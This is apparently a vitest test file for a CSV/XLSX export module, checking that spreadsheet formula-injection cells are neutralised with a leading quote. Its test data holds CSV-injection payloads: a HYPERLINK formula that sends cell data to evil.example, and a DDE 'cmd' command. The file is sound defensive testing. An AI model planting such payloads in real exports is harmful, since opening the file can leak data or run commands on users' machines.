import { parse } from 'csv-parse/sync'
import ExcelJS from 'exceljs'
import type { TFunction } from 'i18next'
import type { ExportColumn } from '../../src/resources/kit'
import { describe, expect, it } from 'vitest'
import { exportStream, neutralise } from './export'

/** Issue 17 item 6: a text cell a spreadsheet would run as a formula is exported as text. */

const t = ((key: string) => key) as unknown as TFunction
// Headers are i18n keys; `t` here answers the key itself.
const columns = [
  { key: 'name', label: 'Name' },
  { key: 'amount', label: 'Amount' },
] as unknown as ExportColumn[]
const DANGEROUS = [
  '=HYPERLINK("http://evil.example/?q="&A1,"x")',
  '+1+cmd|/C calc!A0',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
]

async function* rowsOf(values: Record<string, unknown>[]) {
  yield* values
}

async function bytes(stream: ReadableStream<Uint8Array>): Promise<Buffer> {
  return Buffer.from(await new Response(stream).arrayBuffer())
}

describe('neutralise (OWASP CSV injection rule)', () => {
  it('prefixes a single quote to text starting with = + - @ tab or CR', () => {
    for (const text of DANGEROUS) expect(neutralise(text)).toBe(`'${text}`)
  })

  it('leaves other text, and text that is a plain number, as it is', () => {
    for (const text of ['Ada Lim', '', ' =1', "'=1", '-5.00', '+12', '-0.5e3', '42']) {
      expect(neutralise(text)).toBe(text)
    }
  })
})

describe('exportStream', () => {
  const rows = [
    ...DANGEROUS.map((name, i) => ({ name, amount: -500 - i })),
    { name: '-5.00', amount: 0 },
  ]

  it('writes neutralised text and untouched numbers to CSV', async () => {
    const text = (await bytes(exportStream('csv', rowsOf(rows), columns, t))).toString('utf8')
    const records = parse(text, { bom: true, relax_quotes: true }) as string[][]
    expect(records[0]).toEqual(['Name', 'Amount'])
    expect(records.slice(1)).toEqual(rows.map((r) => [neutralise(r.name), String(r.amount)]))
    expect(records[1][0].startsWith("'=HYPERLINK")).toBe(true)
    expect(records[1][1]).toBe('-500')
    expect(records.at(-1)).toEqual(['-5.00', '0'])
  })

  it('writes neutralised text cells and number cells to XLSX, never a formula', async () => {
    const file = await bytes(exportStream('xlsx', rowsOf(rows), columns, t))
    const book = new ExcelJS.Workbook()
    await book.xlsx.load(file as unknown as ArrayBuffer)
    const sheet = book.worksheets[0]
    rows.forEach((r, i) => {
      const [name, amount] = [sheet.getCell(i + 2, 1), sheet.getCell(i + 2, 2)]
      expect(name.type).toBe(ExcelJS.ValueType.String)
      // XML reads a stored CR back as LF; what matters is the quote in front.
      expect(name.value).toBe(neutralise(r.name).replace('\r', '\n'))
      expect(amount.type).toBe(ExcelJS.ValueType.Number)
      expect(amount.value).toBe(r.amount)
    })
  })
})
